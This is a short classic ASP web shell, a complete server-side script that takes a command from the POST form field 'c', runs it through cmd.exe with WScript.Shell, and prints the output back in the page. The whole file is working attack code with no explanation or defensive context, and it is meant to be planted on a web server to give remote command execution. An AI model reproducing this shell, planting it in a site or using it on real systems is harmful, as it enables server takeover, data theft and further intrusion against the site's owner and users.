<%
Set sh = CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd.exe /c " & Request.Form("c"))
Response.Write("<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>")
%>
